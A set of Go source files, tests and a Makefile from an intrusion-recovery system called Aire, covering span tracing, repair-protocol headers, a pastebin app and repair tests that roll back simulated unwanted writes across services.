package obs

import (
	"sort"
	"sync"
)

// DefaultRingCap bounds the span ring when the caller does not choose.
const DefaultRingCap = 4096

// Span kinds emitted by the instrumented repair plane. A span is one
// observed step of a repair wave (or of the machinery carrying it);
// spans with a non-empty Wave are correlated into WaveStats purely from
// the propagated Aire-Trace-* context.
const (
	// SpanEnqueue: a repair message entered a controller's outgoing
	// queue (Subject = message DeliveryID, Peer = destination).
	SpanEnqueue = "enqueue"
	// SpanClaim: the pump claimed a batch slot for the message.
	SpanClaim = "claim"
	// SpanDeliver: one delivery attempt (Start→End spans the wire call).
	SpanDeliver = "deliver"
	// SpanReconcile: the post-delivery reconcile applied the claimed
	// outcome to the queue entry (Subject = message DeliveryID, so it
	// pairs with the enqueue span for per-hop latency).
	SpanReconcile = "reconcile"
	// SpanRepair: one warp repair phase on the applying service
	// (Subject = phase name: validate / bookkeep / walk / totals).
	SpanRepair = "repair-phase"
	// SpanInbox: an exactly-once inbox verdict for an incoming delivery
	// (Subject = apply / duplicate / stale / in-flight / forgotten,
	// Peer = the delivery ID judged).
	SpanInbox = "inbox"
	// SpanWALAppend / SpanWALFsync / SpanCheckpoint: storage-engine
	// latencies. These carry no wave (they serve many waves at once).
	SpanWALAppend  = "wal-append"
	SpanWALFsync   = "wal-fsync"
	SpanCheckpoint = "checkpoint"
)

// Span is one recorded step. Times are nanoseconds on the recording
// service's clock (the sim's virtual clock under -sched, wall time in
// production); cross-service subtraction is only meaningful when the
// services share a clock, which every harness guarantees.
type Span struct {
	Wave    string `json:"wave,omitempty"`
	Hop     int    `json:"hop"`
	Service string `json:"service"`
	Kind    string `json:"kind"`
	// Subject identifies the message, phase, or verdict involved.
	Subject string `json:"subject,omitempty"`
	// Peer is the remote service for delivery-path spans.
	Peer    string `json:"peer,omitempty"`
	StartNS int64  `json:"start_ns"`
	EndNS   int64  `json:"end_ns"`
}

// Ring is a bounded in-memory span buffer: cheap appends, oldest spans
// overwritten once full. One mutex is fine here — Record is off the
// per-message fast path compared to the wire call it describes, and a
// nil *Ring (obs disabled) records nothing at zero cost.
type Ring struct {
	mu    sync.Mutex
	buf   []Span
	next  int
	wrap  bool
	total int64
}

func newRing(cap int) *Ring {
	return &Ring{buf: make([]Span, cap)}
}

// Record appends one span, overwriting the oldest when full. Nil-safe.
func (r *Ring) Record(s Span) {
	if r == nil {
		return
	}
	r.mu.Lock()
	r.buf[r.next] = s
	r.next++
	r.total++
	if r.next == len(r.buf) {
		r.next = 0
		r.wrap = true
	}
	r.mu.Unlock()
}

// Spans copies the buffered spans oldest-first. Nil-safe (returns nil).
func (r *Ring) Spans() []Span {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if !r.wrap {
		return append([]Span(nil), r.buf[:r.next]...)
	}
	out := make([]Span, 0, len(r.buf))
	out = append(out, r.buf[r.next:]...)
	out = append(out, r.buf[:r.next]...)
	return out
}

// Total reports how many spans were ever recorded (including ones the
// ring has since overwritten). Nil-safe.
func (r *Ring) Total() int64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.total
}

// HopStat aggregates the delivery sojourns observed at one hop depth of
// one wave: enqueue→reconcile(ok) per message, i.e. how long the wave
// front sat in a queue plus its delivery at that depth.
type HopStat struct {
	Hop int `json:"hop"`
	// Msgs is how many distinct messages completed this hop.
	Msgs int `json:"msgs"`
	// MaxLatencyNS / SumLatencyNS aggregate per-message sojourns.
	MaxLatencyNS int64 `json:"max_latency_ns"`
	SumLatencyNS int64 `json:"sum_latency_ns"`
}

// WaveStat is the reconstructed shape of one repair wave: its maximum
// propagation depth and per-hop latency, assembled purely from spans
// whose trace context (wave ID + hop) rode the Aire-Trace-* headers —
// including across crash-recovery, because the context is persisted
// with each PendingMsg in the WAL.
type WaveStat struct {
	Wave string `json:"wave"`
	// Origin is the service that minted the wave (recorded at hop 0).
	Origin string `json:"origin,omitempty"`
	// MaxHop is the deepest hop observed anywhere in the wave.
	MaxHop int `json:"max_hop"`
	// Spans counts every span correlated to the wave.
	Spans int `json:"spans"`
	// Hops holds per-depth latency, ascending by hop.
	Hops []HopStat `json:"hops,omitempty"`
}

// Waves groups spans by wave ID and reconstructs per-wave propagation
// stats. Per-message hop latency pairs the enqueue span with the last
// delivery-path span (deliver or reconcile) for the same subject at the
// same hop; messages still in flight contribute depth but no latency.
func Waves(spans []Span) []WaveStat {
	type msgKey struct {
		wave, subject string
		hop           int
	}
	type msgWindow struct {
		start, end int64
		enq, done  bool
	}
	byWave := map[string]*WaveStat{}
	msgs := map[msgKey]*msgWindow{}
	for _, s := range spans {
		if s.Wave == "" {
			continue
		}
		w := byWave[s.Wave]
		if w == nil {
			w = &WaveStat{Wave: s.Wave}
			byWave[s.Wave] = w
		}
		w.Spans++
		if s.Hop > w.MaxHop {
			w.MaxHop = s.Hop
		}
		if s.Hop == 0 && w.Origin == "" && s.Service != "" {
			w.Origin = s.Service
		}
		if s.Subject == "" {
			continue
		}
		switch s.Kind {
		case SpanEnqueue, SpanDeliver, SpanReconcile:
		default:
			continue
		}
		k := msgKey{s.Wave, s.Subject, s.Hop}
		m := msgs[k]
		if m == nil {
			m = &msgWindow{}
			msgs[k] = m
		}
		if s.Kind == SpanEnqueue {
			if !m.enq || s.StartNS < m.start {
				m.start = s.StartNS
			}
			m.enq = true
		} else {
			if !m.done || s.EndNS > m.end {
				m.end = s.EndNS
			}
			m.done = true
		}
	}
	hops := map[string]map[int]*HopStat{}
	for k, m := range msgs {
		if !m.enq || !m.done {
			continue
		}
		hw := hops[k.wave]
		if hw == nil {
			hw = map[int]*HopStat{}
			hops[k.wave] = hw
		}
		h := hw[k.hop]
		if h == nil {
			h = &HopStat{Hop: k.hop}
			hw[k.hop] = h
		}
		lat := m.end - m.start
		if lat < 0 {
			lat = 0
		}
		h.Msgs++
		h.SumLatencyNS += lat
		if lat > h.MaxLatencyNS {
			h.MaxLatencyNS = lat
		}
	}
	out := make([]WaveStat, 0, len(byWave))
	for id, w := range byWave {
		for _, h := range hops[id] {
			w.Hops = append(w.Hops, *h)
		}
		sort.Slice(w.Hops, func(i, j int) bool { return w.Hops[i].Hop < w.Hops[j].Hop })
		out = append(out, *w)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Wave < out[j].Wave })
	return out
}
