package askbot

import (
	"strings"
	"testing"

	"aire/internal/warp"
	"aire/internal/wire"
)

func TestVotesAdjustReputation(t *testing.T) {
	x := newTB(t)
	s1 := x.register(t, "user1")
	s2 := x.register(t, "user2")
	qid := string(x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", s1, "title", "Q")).Body)

	rep := func() string {
		page := x.call(t, "askbot", wire.NewRequest("GET", "/questions"))
		i := strings.Index(string(page.Body), "user1 (rep ")
		rest := string(page.Body)[i+len("user1 (rep "):]
		return rest[:strings.Index(rest, ")")]
	}
	if rep() != "3" { // 1 signup + 2 for the post
		t.Fatalf("initial rep = %s", rep())
	}

	// Upvote: +5.
	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/vote").WithForm(
		"session", s2, "question", qid, "dir", "up")); !resp.OK() {
		t.Fatalf("vote: %s", resp.Body)
	}
	if rep() != "8" {
		t.Fatalf("rep after upvote = %s", rep())
	}
	// Re-voting the same way is a no-op.
	x.call(t, "askbot", wire.NewRequest("POST", "/vote").WithForm(
		"session", s2, "question", qid, "dir", "up"))
	if rep() != "8" {
		t.Fatalf("rep after duplicate vote = %s", rep())
	}
	// Switching to a downvote: -7.
	x.call(t, "askbot", wire.NewRequest("POST", "/vote").WithForm(
		"session", s2, "question", qid, "dir", "down"))
	if rep() != "1" {
		t.Fatalf("rep after switch = %s", rep())
	}
	// Self-votes and bad directions rejected.
	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/vote").WithForm(
		"session", s1, "question", qid, "dir", "up")); resp.Status != 400 {
		t.Fatalf("self-vote: %d", resp.Status)
	}
	if resp := x.call(t, "askbot", wire.NewRequest("POST", "/vote").WithForm(
		"session", s2, "question", qid, "dir", "sideways")); resp.Status != 400 {
		t.Fatalf("bad dir: %d", resp.Status)
	}
}

// TestRepairUnwindsVotesOnCancelledQuestion: cancelling a question
// re-executes the votes cast on it (they 404) and restores the author's
// reputation — repair through derived state.
func TestRepairUnwindsVotesOnCancelledQuestion(t *testing.T) {
	x := newTB(t)
	s1 := x.register(t, "user1")
	s2 := x.register(t, "user2")
	ask := x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", s1, "title", "spam!")) // the unwanted post
	qid := string(ask.Body)
	x.call(t, "askbot", wire.NewRequest("POST", "/vote").WithForm(
		"session", s2, "question", qid, "dir", "up"))

	if _, err := x.bot.ApplyLocal(warp.Action{
		Kind: warp.CancelReq, ReqID: ask.Header[wire.HdrRequestID],
	}); err != nil {
		t.Fatal(err)
	}
	// The vote re-executed against a missing question and failed, so the
	// author's reputation dropped back to signup level (1).
	page := string(x.call(t, "askbot", wire.NewRequest("GET", "/questions")).Body)
	if strings.Contains(page, "spam!") {
		t.Fatal("question survived repair")
	}
	// Check reputation via a fresh post.
	x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm("session", s1, "title", "legit"))
	page = string(x.call(t, "askbot", wire.NewRequest("GET", "/questions")).Body)
	if !strings.Contains(page, "user1 (rep 3)") { // 1 + 2 for the new post only
		t.Fatalf("reputation not unwound: %q", page)
	}
}

func TestTagCounters(t *testing.T) {
	x := newTB(t)
	sess := x.register(t, "user1")
	x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", sess, "title", "q1", "tags", "go, repair"))
	x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", sess, "title", "q2", "tags", "go"))
	tags := string(x.call(t, "askbot", wire.NewRequest("GET", "/tags")).Body)
	if !strings.Contains(tags, "go=2") || !strings.Contains(tags, "repair=1") {
		t.Fatalf("tags = %q", tags)
	}
}

func TestNegativeReputation(t *testing.T) {
	x := newTB(t)
	s1 := x.register(t, "user1")
	s2 := x.register(t, "user2")
	qid := string(x.call(t, "askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", s1, "title", "Q")).Body)
	// Rep 3, then two more posts = 7; downvotes can push below zero for a
	// fresh account: signup(1) + post(2) = 3; down(-2) x2 -> ... a second
	// voter is needed for a second downvote; just verify one downvote and
	// the atoi round trip of negative numbers.
	x.call(t, "askbot", wire.NewRequest("POST", "/vote").WithForm(
		"session", s2, "question", qid, "dir", "down"))
	page := string(x.call(t, "askbot", wire.NewRequest("GET", "/questions")).Body)
	if !strings.Contains(page, "user1 (rep 1)") {
		t.Fatalf("rep after downvote: %q", page)
	}
	if atoi("-42") != -42 {
		t.Fatal("atoi must handle negatives")
	}
}
