// Package wire defines the HTTP-like message model exchanged between
// Aire-enabled services, together with the Aire dependency-tracking headers
// described in §3.1 of the paper ("Integrating Aire with HTTP").
//
// The types are deliberately smaller than net/http's: requests and responses
// must be logged, diffed, serialized into repair messages, and replayed
// deterministically, so they are plain value types with canonical encodings.
// An adapter in internal/transport converts to and from net/http.
package wire

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"sort"
	"strings"
)

// Aire header names. Per §3.1:
//
//   - Aire-Request-Id is added by a server to every response it produces and
//     names the request that triggered the response. The client stores it and
//     uses it to refer to that request in later repair operations.
//   - Aire-Response-Id is added by a client to every request it issues and
//     names the response the server will produce. The server stores it and
//     uses it if the response must later be repaired.
//   - Aire-Notifier-URL is added by a client to every request it issues; the
//     server contacts this URL to deliver a response-repair token.
//   - Aire-Repair marks a request as a repair operation (its value is the
//     operation type: replace, delete, create, or replace_response).
//
// The delivery headers implement the exactly-once session layer of the
// repair plane (internal/deliver). Repair delivery is at-least-once by
// construction — offline peers, timeouts, and re-delivery (§3.2) — so every
// repair-plane carrier additionally names its delivery:
//
//   - Aire-Delivery-Id is the durable identity of the queued repair message;
//     it is stable across delivery attempts, so the receiver can recognize a
//     re-delivery and re-acknowledge it without re-applying.
//   - Aire-Generation is the message's content generation: queue collapsing
//     and Retry supersede a message's content in place, bumping the
//     generation, so the receiver can discard a delayed copy of superseded
//     content that arrives after newer content was applied.
//   - Aire-Origin is the sending service, scoping delivery IDs (which are
//     only unique per sender) on transports that do not authenticate the
//     caller.
//
// The trace headers carry repair-wave identity for observability
// (internal/obs). Every repair cascade mints a wave ID at its origin, and
// each carrier names the wave it belongs to plus its hop depth (how many
// service-to-service deliveries separate it from the originating repair), so
// a wave's propagation shape can be reconstructed from span records alone —
// including across crash-recovery, because the context is persisted with the
// queued message. Trace headers are observability-only: they never influence
// repair semantics or delivery dedup.
//
// The version-vector headers implement the anti-entropy layer of the repair
// plane: every pump-stamped carrier piggybacks the sender's delivery vector
// for the (origin, peer) pair, and the receiver answers detected gaps with a
// NACK.
//
//   - Aire-Acked-Seq announces the sender's highest contiguous acknowledged
//     delivery sequence for this peer: every delivery it ever stamped for
//     this peer with a sequence at or below it has reached a terminal
//     outcome. The receiver may drop its dedup entries for that prefix and
//     classify any arrival at or below it as a duplicate — exactly, with no
//     watermark heuristic.
//   - Aire-Frontier-Seq announces the highest delivery sequence the sender
//     has stamped for this peer, letting the receiver notice outstanding
//     deliveries it has never seen.
//   - Aire-Nack-Seq is the receiver's anti-entropy answer (a response
//     header): a sequence gap was detected against the announced vector, and
//     the sender should re-offer its unacknowledged backlog for this peer
//     immediately instead of waiting out delivery backoff.
//   - Aire-Reoffer marks a carrier as such an anti-entropy re-offer (set on
//     every attempt after a NACK), distinguishing it from plain
//     timeout-driven retries.
//   - Aire-Body-Sum is an end-to-end FNV-64a checksum of the carrier body;
//     the receive path refuses a mismatch loudly (retryably) instead of
//     applying a corrupted repair.
const (
	HdrRequestID   = "Aire-Request-Id"
	HdrResponseID  = "Aire-Response-Id"
	HdrNotifierURL = "Aire-Notifier-URL"
	HdrRepair      = "Aire-Repair"
	HdrDeliveryID  = "Aire-Delivery-Id"
	HdrGeneration  = "Aire-Generation"
	HdrOrigin      = "Aire-Origin"
	HdrTraceID     = "Aire-Trace-Id"
	HdrTraceHop    = "Aire-Trace-Hop"
	HdrAckedSeq    = "Aire-Acked-Seq"
	HdrFrontierSeq = "Aire-Frontier-Seq"
	HdrNackSeq     = "Aire-Nack-Seq"
	HdrReoffer     = "Aire-Reoffer"
	HdrBodySum     = "Aire-Body-Sum"
	// HdrShard names the destination shard of a repair-plane carrier when
	// the receiving service is horizontally sharded (core.ShardTopology).
	// The sender resolves the shard from the deterministic key→shard map
	// (or from the shard-qualified request ID the carrier already names)
	// and stamps it so a router can dispatch without re-deriving the key,
	// and a shard can refuse a carrier addressed to a sibling. Routing
	// metadata only: it never influences repair semantics or dedup.
	HdrShard = "Aire-Shard"
)

// Request is an API operation sent to a service.
type Request struct {
	// Method is the HTTP verb (GET, POST, PUT, DELETE).
	Method string `json:"method"`
	// Path identifies the operation, e.g. "/questions/post".
	Path string `json:"path"`
	// Header carries metadata, including the Aire headers above and
	// application credentials (cookies, tokens).
	Header map[string]string `json:"header,omitempty"`
	// Form carries the operation's parameters (query string + form body
	// folded together, as our mini-framework does not distinguish them).
	Form map[string]string `json:"form,omitempty"`
	// Body is an optional opaque payload.
	Body []byte `json:"body,omitempty"`
}

// Response is a service's answer to a Request.
type Response struct {
	// Status is the HTTP-like status code (200, 403, 404, 408, 500, ...).
	Status int `json:"status"`
	// Header carries metadata, including Aire-Request-Id.
	Header map[string]string `json:"header,omitempty"`
	// Body is the response payload.
	Body []byte `json:"body,omitempty"`
}

// StatusTimeout is returned tentatively for outgoing calls issued during
// repair (§3.2): local repair cannot block on the remote service, so the
// re-executed handler observes a timeout, which is later corrected by a
// replace_response from the remote side.
const StatusTimeout = 408

// NewRequest returns a Request with initialized maps.
func NewRequest(method, path string) Request {
	return Request{
		Method: method,
		Path:   path,
		Header: map[string]string{},
		Form:   map[string]string{},
	}
}

// NewResponse returns a Response with the given status and string body.
func NewResponse(status int, body string) Response {
	return Response{Status: status, Header: map[string]string{}, Body: []byte(body)}
}

// WithForm returns a copy of r with the given form values set.
func (r Request) WithForm(kv ...string) Request {
	if len(kv)%2 != 0 {
		panic("wire: WithForm requires key/value pairs")
	}
	c := r.Clone()
	if c.Form == nil {
		c.Form = map[string]string{}
	}
	for i := 0; i < len(kv); i += 2 {
		c.Form[kv[i]] = kv[i+1]
	}
	return c
}

// WithHeader returns a copy of r with the given header values set.
func (r Request) WithHeader(kv ...string) Request {
	if len(kv)%2 != 0 {
		panic("wire: WithHeader requires key/value pairs")
	}
	c := r.Clone()
	if c.Header == nil {
		c.Header = map[string]string{}
	}
	for i := 0; i < len(kv); i += 2 {
		c.Header[kv[i]] = kv[i+1]
	}
	return c
}

// Clone returns a deep copy of the request.
func (r Request) Clone() Request {
	c := r
	c.Header = cloneMap(r.Header)
	c.Form = cloneMap(r.Form)
	if r.Body != nil {
		c.Body = append([]byte(nil), r.Body...)
	}
	return c
}

// Clone returns a deep copy of the response.
func (r Response) Clone() Response {
	c := r
	c.Header = cloneMap(r.Header)
	if r.Body != nil {
		c.Body = append([]byte(nil), r.Body...)
	}
	return c
}

func cloneMap(m map[string]string) map[string]string {
	if m == nil {
		return nil
	}
	c := make(map[string]string, len(m))
	for k, v := range m {
		c[k] = v
	}
	return c
}

// AireHeaders lists every Aire protocol header (dependency tracking and
// delivery identity). It is the single source of truth: semantic request
// equality excludes exactly these, and the HTTP adapter's canonicalization
// table is built from it — a header added here can never be readable on
// the bus but silently missing over real HTTP.
var AireHeaders = []string{
	HdrRequestID, HdrResponseID, HdrNotifierURL, HdrRepair,
	HdrDeliveryID, HdrGeneration, HdrOrigin,
	HdrTraceID, HdrTraceHop,
	HdrAckedSeq, HdrFrontierSeq, HdrNackSeq, HdrReoffer, HdrBodySum,
	HdrShard,
}

var aireHeaderSet = func() map[string]bool {
	m := make(map[string]bool, len(AireHeaders))
	for _, h := range AireHeaders {
		m[h] = true
	}
	return m
}()

// IsAireHeader reports whether h is one of the Aire protocol headers,
// which are excluded from semantic request equality: they change on every
// (re-)execution or (re-)delivery but do not affect what the operation
// does.
func IsAireHeader(h string) bool { return aireHeaderSet[h] }

func aireHeader(h string) bool { return IsAireHeader(h) }

// CanonicalKey returns a deterministic string identifying the semantic
// content of the request (method, path, non-Aire headers, form, body). Two
// requests with equal CanonicalKey are considered the same operation when
// local repair diffs re-executed outgoing calls against the log (§3.2).
func (r Request) CanonicalKey() string {
	var b strings.Builder
	b.WriteString(r.Method)
	b.WriteByte(' ')
	b.WriteString(r.Path)
	b.WriteByte('\n')
	writeSortedMap(&b, r.Header, aireHeader)
	writeSortedMap(&b, r.Form, nil)
	b.Write(r.Body)
	return b.String()
}

// CanonicalKey returns a deterministic string identifying the semantic
// content of the response (status, non-Aire headers, body).
func (r Response) CanonicalKey() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%d\n", r.Status)
	writeSortedMap(&b, r.Header, aireHeader)
	b.Write(r.Body)
	return b.String()
}

func writeSortedMap(b *strings.Builder, m map[string]string, skip func(string) bool) {
	keys := make([]string, 0, len(m))
	for k := range m {
		if skip != nil && skip(k) {
			continue
		}
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(b, "%s=%s\n", k, m[k])
	}
	b.WriteByte(0)
}

// Equal reports whether two requests are semantically equal (ignoring Aire
// headers).
func (r Request) Equal(o Request) bool { return r.CanonicalKey() == o.CanonicalKey() }

// Equal reports whether two responses are semantically equal (ignoring Aire
// headers).
func (r Response) Equal(o Response) bool { return r.CanonicalKey() == o.CanonicalKey() }

// Encode serializes the request to JSON (map keys sorted, so encoding is
// deterministic).
func (r Request) Encode() []byte {
	b, err := json.Marshal(r)
	if err != nil {
		panic(fmt.Sprintf("wire: encode request: %v", err)) // maps of strings cannot fail
	}
	return b
}

// DecodeRequest parses a request previously produced by Encode.
func DecodeRequest(b []byte) (Request, error) {
	var r Request
	if err := json.Unmarshal(b, &r); err != nil {
		return Request{}, fmt.Errorf("wire: decode request: %w", err)
	}
	return r, nil
}

// Encode serializes the response to JSON.
func (r Response) Encode() []byte {
	b, err := json.Marshal(r)
	if err != nil {
		panic(fmt.Sprintf("wire: encode response: %v", err))
	}
	return b
}

// DecodeResponse parses a response previously produced by Encode.
func DecodeResponse(b []byte) (Response, error) {
	var r Response
	if err := json.Unmarshal(b, &r); err != nil {
		return Response{}, fmt.Errorf("wire: decode response: %w", err)
	}
	return r, nil
}

// BodySum computes the end-to-end checksum stamped as Aire-Body-Sum on
// repair-plane carriers: FNV-64a over the raw body bytes, fixed-width hex.
// Both sides share this one definition so a corrupted payload can never
// present a valid sum by construction drift.
func BodySum(body []byte) string {
	h := fnv.New64a()
	h.Write(body)
	return fmt.Sprintf("%016x", h.Sum64())
}

// OK reports whether the response has a 2xx status.
func (r Response) OK() bool { return r.Status >= 200 && r.Status < 300 }

// String renders a short human-readable description of the request.
func (r Request) String() string {
	return fmt.Sprintf("%s %s form=%d hdr=%d body=%dB", r.Method, r.Path, len(r.Form), len(r.Header), len(r.Body))
}

// String renders a short human-readable description of the response.
func (r Response) String() string {
	return fmt.Sprintf("%d body=%q", r.Status, truncate(string(r.Body), 40))
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
