// Package dpaste implements the Dpaste-like pastebin of the paper's Askbot
// scenario (§7.1): services and users post code snippets, and other users
// view and download them. Askbot crossposts code found in questions here
// (request (6) of Figure 4), which is how the attack spreads to Dpaste.
package dpaste

import (
	"fmt"
	"strings"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/warp"
	"aire/internal/web"
	"aire/internal/wire"
)

// ModelSnippet holds pasted code: id = snippet id; fields: code, author,
// downloads.
const ModelSnippet = "snippet"

// App is the pastebin application.
type App struct {
	// ServiceName is the transport identity (default "dpaste").
	ServiceName string
}

// New returns a pastebin app.
func New() *App { return &App{ServiceName: "dpaste"} }

// Name implements core.App.
func (a *App) Name() string { return a.ServiceName }

// Register installs models and routes.
func (a *App) Register(svc *web.Service) {
	svc.Schema.Register(ModelSnippet)

	// POST /paste stores a snippet and returns its id.
	svc.Router.Handle("POST", "/paste", func(c *web.Ctx) wire.Response {
		code := c.Form("code")
		if code == "" {
			return c.Error(400, "code required")
		}
		id := "paste-" + c.NewID()
		if err := c.DB.Put(ModelSnippet, id, orm.Fields(
			"code", code, "author", c.Form("author"), "downloads", "0")); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK(id)
	})

	// GET /snippet renders a snippet.
	svc.Router.Handle("GET", "/snippet", func(c *web.Ctx) wire.Response {
		o, ok := c.DB.Get(ModelSnippet, c.Form("id"))
		if !ok {
			return c.Error(404, "no such snippet")
		}
		return c.OK(fmt.Sprintf("by %s:\n%s", o.Get("author"), o.Get("code")))
	})

	// GET /download returns raw code and counts the download (a state
	// change that depends on the snippet's existence, so repair notifies
	// downloaders of cancelled snippets).
	svc.Router.Handle("GET", "/download", func(c *web.Ctx) wire.Response {
		id := c.Form("id")
		o, ok := c.DB.Get(ModelSnippet, id)
		if !ok {
			return c.Error(404, "no such snippet")
		}
		n := o.Int("downloads") + 1
		if _, err := c.DB.Update(ModelSnippet, id, func(f map[string]string) {
			f["downloads"] = fmt.Sprint(n)
		}); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK(o.Get("code"))
	})

	// GET /list shows all snippet ids.
	svc.Router.Handle("GET", "/list", func(c *web.Ctx) wire.Response {
		var b strings.Builder
		for _, o := range c.DB.List(ModelSnippet) {
			fmt.Fprintf(&b, "%s\n", o.ID)
		}
		return c.OK(b.String())
	})
}

// Authorize allows a repair only on behalf of the principal that issued the
// original request: for service-issued requests (e.g. Askbot's crossposts),
// the same authenticated service; for user requests, the same author name
// presented in the carrier (§4, §7.3).
func (a *App) Authorize(ac core.AuthzRequest) bool {
	if ac.Kind == warp.OutReplaceResponse {
		return true
	}
	if ac.Kind == warp.OutCreate {
		// New requests in the past may only be created by Aire-enabled
		// peers (an authenticated service), acting as themselves.
		return ac.From != ""
	}
	if ac.OriginalFrom != "" {
		return ac.From == ac.OriginalFrom
	}
	author := ac.Original.Form["author"]
	return author != "" && ac.Carrier.Header["X-Repair-Author"] == author
}
