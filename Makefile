# Aire — asynchronous intrusion recovery for interconnected web services.
# CI (.github/workflows/ci.yml) runs exactly these targets; run `make ci`
# locally to reproduce the full gate.

GO ?= go

# Fault-injection simulation sweep (internal/simnet + cmd/airesim).
# SIM_SEEDS is "lo:hi" (inclusive) or "3,7,19"; SIM_PROFILE is one of
# `go run ./cmd/airesim -profiles` (drop, duplicate, delay, partition,
# crash, mixed, stale, dupcreate). CI runs a short fixed-seed matrix;
# longer local sweeps:
#   make sim SIM_PROFILE=mixed SIM_SEEDS=1:1000
SIM_SEEDS ?= 1:20
SIM_PROFILE ?= mixed

.PHONY: all build test race bench bench-json fmt fmt-fix vet ci sim sim-sched

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Bench smoke: compile and run every benchmark once (no timing fidelity —
# catches rot, not regressions). Full runs: go test -bench . -benchmem
bench:
	$(GO) test -bench . -benchtime 1x -run '^$$' ./...

# Machine-readable repair-scaling trajectory (ISSUE 4): indexed vs
# pre-index repair walk as unrelated traffic grows. CI uploads the JSON as
# a build artifact; regenerate the committed copy with this target.
bench-json:
	$(GO) run ./cmd/airebench -table bench4 -out BENCH_4.json

fmt:
	@out="$$(gofmt -l .)"; \
	if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

fmt-fix:
	gofmt -w .

sim:
	$(GO) run ./cmd/airesim -profile $(SIM_PROFILE) -seeds $(SIM_SEEDS)

# Same sweep with repair delivery on the background pump under the
# deterministic scheduler (internal/dsched): concurrent worker
# interleavings, seed-reproducible. A failing seed prints its step count;
# replay with: go run ./cmd/airesim -sched -profile <p> -seeds <seed> -v
sim-sched:
	$(GO) run ./cmd/airesim -sched -profile $(SIM_PROFILE) -seeds $(SIM_SEEDS)

vet:
	$(GO) vet ./...

ci: fmt vet build test race bench
