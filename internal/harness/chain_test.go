package harness

import (
	"fmt"
	"sync"
	"testing"

	"aire/internal/apps/spreadsheet"
	"aire/internal/core"
	"aire/internal/wire"
)

// TestThreeHopSyncChain extends the corrupt-data-sync scenario to a chain
// A → B → C: sync scripts on A and B relay cell changes two hops. Repair of
// the attack on A must cascade delete → delete across both hops.
func TestThreeHopSyncChain(t *testing.T) {
	tb := NewTestbed()
	a := tb.Add(spreadsheet.New("hopA", BootstrapToken), core.DefaultConfig())
	tb.Add(spreadsheet.New("hopB", BootstrapToken), core.DefaultConfig())
	tb.Add(spreadsheet.New("hopC", BootstrapToken), core.DefaultConfig())
	tb.FreezeTime(1_380_000_000)

	seed := func(svc, path string, kv ...string) {
		tb.MustCall(svc, wire.NewRequest("POST", path).WithForm(kv...).
			WithHeader("X-Bootstrap", BootstrapToken))
	}
	for _, svc := range []string{"hopA", "hopB", "hopC"} {
		seed(svc, "/seed/token", "user", LegitUser, "value", LegitToken)
		seed(svc, "/seed/acl", "user", LegitUser, "perms", "rw")
	}
	seed("hopA", "/seed/script", "id", "sync-ab", "trigger", "shared:",
		"action", "sync", "target", "hopB", "owner", LegitUser, "token", LegitToken)
	seed("hopB", "/seed/script", "id", "sync-bc", "trigger", "shared:",
		"action", "sync", "target", "hopC", "owner", LegitUser, "token", LegitToken)

	// A legitimate value flows A -> B -> C.
	tb.MustCall("hopA", setCell("shared:doc", "v1", LegitUser, LegitToken))
	for _, svc := range []string{"hopA", "hopB", "hopC"} {
		if got := string(tb.Call(svc, getCell("shared:doc")).Body); got != "v1" {
			t.Fatalf("%s = %q before attack", svc, got)
		}
	}

	// The "attack": an unwanted overwrite (user mistake per §1) that also
	// propagates two hops.
	bad := tb.MustCall("hopA", setCell("shared:doc", "CORRUPT", LegitUser, LegitToken))
	if got := string(tb.Call("hopC", getCell("shared:doc")).Body); got != "CORRUPT" {
		t.Fatalf("hopC = %q, corruption should have reached it", got)
	}

	// Cancel on A; repair must cascade A -> B -> C.
	if _, err := a.ApplyLocal(cancelAction(bad.Header[wire.HdrRequestID])); err != nil {
		t.Fatal(err)
	}
	tb.Settle(20)
	for _, svc := range []string{"hopA", "hopB", "hopC"} {
		if got := string(tb.Call(svc, getCell("shared:doc")).Body); got != "v1" {
			t.Fatalf("%s = %q after repair, want v1", svc, got)
		}
	}
	// Each hop ran a repair.
	for _, svc := range []string{"hopB", "hopC"} {
		if tb.Ctrls[svc].Stats().RepairsRun == 0 {
			t.Fatalf("%s never repaired", svc)
		}
	}
}

// TestConcurrentNormalOperation hammers one service from many goroutines;
// the per-service lock serializes execution (like the paper's prototype)
// and nothing corrupts. Run under -race.
func TestConcurrentNormalOperation(t *testing.T) {
	tb := NewTestbed()
	tb.Add(&KVApp{ServiceName: "a"}, core.DefaultConfig())

	const workers = 8
	const perWorker = 50
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				key := fmt.Sprintf("k%d", w)
				resp := tb.Call("a", wire.NewRequest("POST", "/put").
					WithForm("key", key, "val", fmt.Sprintf("%d", i)))
				if !resp.OK() {
					t.Errorf("worker %d put %d: %+v", w, i, resp)
					return
				}
				tb.Call("a", wire.NewRequest("GET", "/get").WithForm("key", key))
			}
		}(w)
	}
	wg.Wait()

	ctrl := tb.Ctrls["a"]
	if got := ctrl.Svc.Log.Len(); got != workers*perWorker*2 {
		t.Fatalf("log has %d records, want %d", got, workers*perWorker*2)
	}
	// Every worker's final value is its last write.
	for w := 0; w < workers; w++ {
